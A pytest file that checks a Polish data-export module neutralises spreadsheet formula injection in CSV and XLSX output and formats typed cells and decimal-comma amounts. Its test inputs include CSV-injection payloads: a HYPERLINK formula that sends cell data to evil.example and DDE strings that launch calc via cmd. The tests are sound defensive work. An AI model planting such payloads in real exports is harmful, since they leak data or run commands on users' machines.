"""Table exports: CSV cells a spreadsheet would run as formulas are neutralised (OWASP)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from integra.core.exports import Table, csv_response, neutralised, xlsx_response


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?d="&A1,"Kliknij")',
        "+48 cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tleading tab",
        "\rleading return",
    ],
)
def test_a_formula_cell_is_prefixed_so_it_shows_as_typed(value):
    assert neutralised(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Gmina Widawa", "-1 234,56", "-12.50", "+48", "1001022", "", "a=b", "e-mail"]
)
def test_plain_text_and_numbers_stay_as_they_are(value):
    assert neutralised(value) == value


def test_the_csv_response_neutralises_header_and_rows():
    table = Table(
        name="t",
        title="t",
        header=["Nazwa", "=1+1"],
        rows=[["=cmd|' /C calc'!A0", "-5,00"], ["@x", "ok"]],
    )
    body = csv_response(table).content.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows == [
        ["Nazwa", "'=1+1"],
        ["'=cmd|' /C calc'!A0", "-5,00"],
        ["'@x", "ok"],
    ]


def _typed_table():
    return Table(
        name="t",
        title="Arkusz",
        header=["TERYT", "Rok", "Kwota", "Dzień", "Uwagi"],
        rows=[
            ["0601022", 2008, Decimal("11.08"), dt.date(2008, 3, 13), None],
            ["1003042", 2007, Decimal("-1234567.5"), None, "=1+1"],
        ],
    )


def test_xlsx_cells_are_typed_numbers_dates_and_text():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_response(_typed_table()).content))
    sheet = book.active
    first = [c.value for c in sheet[2]]
    assert first[:4] == ["0601022", 2008, 11.08, dt.datetime(2008, 3, 13)]
    assert first[4] is None
    assert (sheet["B2"].number_format, sheet["C2"].number_format) == ("0", "#,##0.00")
    assert sheet["D2"].is_date
    assert [c.value for c in sheet[3]][2] == -1234567.5
    assert sheet["E3"].data_type == "s"  # a formula-looking text stays text


def test_csv_amounts_carry_a_decimal_comma_for_polish_excel():
    body = csv_response(_typed_table()).content.decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(body), delimiter=";"))
    assert rows[1] == ["0601022", "2008", "11,08", "2008-03-13", ""]
    assert rows[2] == ["1003042", "2007", "-1234567,5", "", "'=1+1"]
